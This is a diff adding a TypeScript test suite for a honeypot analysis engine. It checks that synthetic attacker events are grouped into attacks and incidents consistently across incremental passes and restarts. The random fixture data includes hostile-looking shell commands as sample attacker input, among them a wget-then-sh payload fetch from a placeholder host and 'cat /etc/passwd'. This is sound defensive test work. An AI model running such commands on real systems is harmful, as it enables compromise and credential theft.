@@ -1,0 +1,289 @@
+/** Events to attacks and incidents on the real engine: what one pass finds, many small ones find too. */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { StateDatabase } from '../state/database.ts';
+import { migrate } from '../store/schema.ts';
+import { Store } from '../store/store.ts';
+import { Analysis } from './analysis.ts';
+import type { AttackScope } from './attack-sql.ts';
+
+interface TestEvent {
+  event_id: number;
+  segment_id: number;
+  sensor_id: number;
+  at: string;
+  attacker_ip: string;
+  action: string;
+  service?: string;
+  session?: string;
+  command?: string;
+  fingerprint?: string;
+  signature?: string;
+  file_sha256?: string;
+  outcome?: string;
+}
+
+const scope: AttackScope = {
+  pause_seconds: 3600,
+  nets: [
+    { honeynet_id: 7, sensors: [1, 2] },
+    { honeynet_id: 8, sensors: [3] },
+  ],
+  gateways: [{ first: '::ffff:192.0.2.1', last: '::ffff:192.0.2.1' }],
+};
+
+/** A start looks through what came in the last weeks. */
+const collected = new Date().toISOString().slice(0, 19).replace('T', ' ');
+const tables = ['event', 'attack', 'attack_event', 'incident', 'incident_attack'];
+
+describe('analysis', () => {
+  const directory = mkdtempSync(join(tmpdir(), 'apiary-analysis-'));
+  let store: Store;
+  let state: StateDatabase;
+  before(async () => {
+    store = new Store({ directory });
+    await store.whenUp();
+    await migrate(store, []);
+  });
+  after(async () => {
+    await store.close();
+    rmSync(directory, { recursive: true });
+  });
+
+  async function begin(): Promise<Analysis> {
+    for (const table of tables) await store.command(`TRUNCATE TABLE ${table}`);
+    state = new StateDatabase(':memory:');
+    return open();
+  }
+  async function open(): Promise<Analysis> {
+    const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
+    await analysis.load();
+    return analysis;
+  }
+  async function insert(events: readonly TestEvent[]): Promise<void> {
+    await store.insertRows(
+      'event',
+      events.map(({ at, ...event }) => ({
+        sensor_type: 'test',
+        sensor_table: 'test_lines',
+        place: event.event_id,
+        generation: 1,
+        detect_ts: `2026-03-01 ${at}.000000`,
+        collect_ts: collected,
+        target_kind: 'computer',
+        vantage: 'honeypot',
+        ...event,
+        attacker_ip: event.attacker_ip.includes(':') ? event.attacker_ip : `::ffff:${event.attacker_ip}`,
+      })),
+    );
+  }
+  const attacksNow = () =>
+    store.query<{
+      attack_id: string;
+      service: string;
+      cve: string;
+      events: string;
+      source: string;
+      net: number;
+    }>(
+      'SELECT attack_id, service, cve, events, source, net FROM attack FINAL WHERE is_gone = 0 ORDER BY first_ts, attack_id',
+    );
+  /** Which events stand together in attacks, and which attacks in incidents, by their earliest event. */
+  async function partition(): Promise<unknown> {
+    const of_event = await store.query(
+      'SELECT event_id, tupleElement(max(assignment), 2) AS attack_id FROM attack_event GROUP BY event_id ORDER BY event_id',
+    );
+    const of_attack = await store.query(
+      `SELECT attack_id, incident_id FROM incident_attack FINAL WHERE attack_id IN (SELECT attack_id FROM attack FINAL WHERE is_gone = 0) ORDER BY attack_id`,
+    );
+    const incidents = await store.query(
+      'SELECT incident_id, attacks, events FROM incident FINAL WHERE is_gone = 0 ORDER BY incident_id',
+    );
+    return { of_event, of_attack, incidents };
+  }
+
+  let id = 0;
+  const event = (at: string, attacker_ip: string, more: Partial<TestEvent> = {}): TestEvent => {
+    id += 1;
+    return {
+      event_id: id,
+      segment_id: 1,
+      sensor_id: 1,
+      at,
+      attacker_ip,
+      action: 'probe',
+      service: 'ssh',
+      ...more,
+    };
+  };
+
+  test('a pause of more than an hour ends an attack, on any sensor', async () => {
+    const analysis = await begin();
+    await insert([
+      event('00:00:00', '203.0.113.1'),
+      event('00:59:00', '203.0.113.1', { sensor_id: 2 }),
+      event('01:59:01', '203.0.113.1'),
+      event('00:30:00', '203.0.113.2'),
+    ]);
+    analysis.note(1n);
+    const { attacks } = await analysis.pass();
+    assert.equal(attacks, 3);
+    assert.deepEqual(
+      (await attacksNow()).map(({ events }) => Number(events)),
+      [2, 1, 1],
+    );
+  });
+
+  test('services, named vulnerabilities and fingerprints are attacks of their own; a session names its service once', async () => {
+    const analysis = await begin();
+    await insert([
+      event('00:00:00', '203.0.113.1', { session: 'a', fingerprint: 'f1' }),
+      event('00:00:01', '203.0.113.1', { session: 'a', service: '', action: 'authenticate' }),
+      event('00:00:02', '203.0.113.1', { session: 'b', service: 'http' }),
+      event('00:00:03', '203.0.113.1', {
+        session: 'b',
+        service: 'http',
+        signature: 'ET EXPLOIT CVE-2021-44228',
+      }),
+      event('00:10:00', '203.0.113.9', { session: 'c', fingerprint: 'f1' }),
+      event('00:10:01', '203.0.113.9', { session: 'd', fingerprint: 'f2' }),
+      event('00:10:02', '203.0.113.9', { session: 'c', action: 'input', command: 'id' }),
+    ]);
+    analysis.note(1n);
+    await analysis.pass();
+    assert.deepEqual(
+      (await attacksNow()).map(({ service, cve, events }) => [service, cve, Number(events)]),
+      [
+        ['ssh', '', 2],
+        ['http', '', 1],
+        ['http', 'CVE-2021-44228', 1],
+        ['ssh', '', 2],
+        ['ssh', '', 1],
+      ],
+    );
+  });
+
+  test('a /64 is one source, a private address one within its honeynet, a gateway nobody', async () => {
+    const analysis = await begin();
+    await insert([
+      event('00:00:00', '2001:db8:1:2::1'),
+      event('00:00:01', '2001:db8:1:2:ffff::9'),
+      event('00:00:02', '2001:db8:1:3::1'),
+      event('00:00:03', '10.0.0.5', { sensor_id: 1 }),
+      event('00:00:04', '10.0.0.5', { sensor_id: 2 }),
+      event('00:00:05', '10.0.0.5', { sensor_id: 3 }),
+      event('00:00:06', '192.0.2.1'),
+      event('00:00:07', '::'),
+    ]);
+    analysis.note(1n);
+    await analysis.pass();
+    assert.deepEqual(
+      (await attacksNow()).map(({ source, net, events }) => [source, net, Number(events)]),
+      [
+        ['2001:db8:1:2::', 0, 2],
+        ['2001:db8:1:3::', 0, 1],
+        ['::ffff:10.0.0.5', 7, 2],
+        ['::ffff:10.0.0.5', 8, 1],
+      ],
+    );
+  });
+
+  test('a late event joins two attacks; numbers and the time of analysis stay', async () => {
+    const analysis = await begin();
+    await insert([event('00:00:00', '203.0.113.1'), event('01:30:00', '203.0.113.1')]);
+    analysis.note(1n);
+    await analysis.pass();
+    const [first] = await store.query<{ analysis_ts: string }>(
+      'SELECT min(analysis_ts) AS analysis_ts FROM attack_event',
+    );
+    assert.equal((await attacksNow()).length, 2);
+    await insert([event('00:45:00', '203.0.113.1', { segment_id: 2 })]);
+    analysis.note(2n);
+    await analysis.pass();
+    const [one, ...others] = await attacksNow();
+    assert.equal(others.length, 0);
+    assert.equal(Number(one?.events), 3);
+    const times = await store.query<{ analysis_ts: string }>(
+      'SELECT min(analysis_ts) AS analysis_ts FROM attack_event GROUP BY event_id ORDER BY analysis_ts',
+    );
+    assert.equal(times[0]?.analysis_ts, first?.analysis_ts);
+    assert.notEqual(times[2]?.analysis_ts, first?.analysis_ts);
+    assert.deepEqual(await store.query('SELECT number, attacks FROM incident FINAL WHERE is_gone = 0'), [
+      { number: 1, attacks: 1 },
+    ]);
+  });
+
+  test('an event before the first gives the attack another name, and the incident keeps its number', async () => {
+    const analysis = await begin();
+    await insert([event('10:00:00', '203.0.113.1'), event('12:00:00', '203.0.113.50')]);
+    analysis.note(1n);
+    await analysis.pass();
+    const numberOf = async (source: string) =>
+      (
+        await store.query<{ number: number }>(
+          `SELECT number FROM incident FINAL WHERE is_gone = 0 AND incident_id IN (SELECT attack_id FROM attack FINAL WHERE is_gone = 0 AND source = toIPv6('::ffff:${source}'))`,
+        )
+      ).map(({ number }) => number);
+    const before_it = await numberOf('203.0.113.1');
+    await insert([event('09:30:00', '203.0.113.1', { segment_id: 2 })]);
+    analysis.note(2n);
+    await analysis.pass();
+    assert.deepEqual(await numberOf('203.0.113.1'), before_it);
+    // A new start reads it back the same.
+    const again = await open();
+    await insert([event('09:20:00', '203.0.113.1', { segment_id: 3 })]);
+    again.note(3n);
+    await again.pass();
+    assert.deepEqual(await numberOf('203.0.113.1'), before_it);
+  });
+
+  test('many small passes in any order, with restarts, find what one pass finds', async () => {
+    let seed = 20_261_123;
+    const random = (below: number): number => {
+      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
+      return Math.floor((seed / 2_147_483_648) * below);
+    };
+    const pad = (value: number): string => String(value).padStart(2, '0');
+    const events = Array.from({ length: 400 }, (_, index): TestEvent => {
+      const source = random(12);
+      const kind = random(10);
+      return {
+        event_id: 1000 + index,
+        segment_id: 100 + random(60),
+        sensor_id: 1 + random(3),
+        at: `${pad(random(24))}:${pad(random(60))}:${pad(random(60))}`,
+        attacker_ip:
+          source < 2 ? `10.0.0.${source}` : source < 4 ? `2001:db8::${source}` : `203.0.113.${source}`,
+        action: kind < 5 ? 'probe' : kind < 8 ? 'authenticate' : kind < 9 ? 'input' : 'download',
+        service: ['ssh', 'telnet', ''][random(3)]!,
+        session: `s${source}-${random(6)}`,
+        command:
+          kind === 8
+            ? ['uname -a; id', 'wget http://198.51.100.9/x; sh x', 'cat /etc/passwd'][random(3)]!
+            : '',
+        file_sha256: kind === 9 ? String(random(3)).repeat(64) : '',
+        fingerprint: ['', '', 'f1', 'f2'][random(4)]!,
+        signature: random(30) === 0 ? 'CVE-2021-44228' : '',
+      };
+    });
+    const whole = await begin();
+    await insert(events);
+    await whole.rebuild();
+    const expected = await partition();
+
+    let analysis = await begin();
+    const segments = [...Map.groupBy(events, ({ segment_id }) => segment_id)].sort(() => random(3) - 1);
+    for (const [index, [segment, list]] of segments.entries()) {
+      await insert(list);
+      analysis.note(BigInt(segment));
+      // Some segments wait for the next pass, and some passes are the first after a start.
+      if (index % 3 !== 0) await analysis.pass();
+      if (index % 17 === 16) analysis = await open();
+    }
+    await analysis.pass();
+    assert.deepEqual(await partition(), expected);
+  });
+});
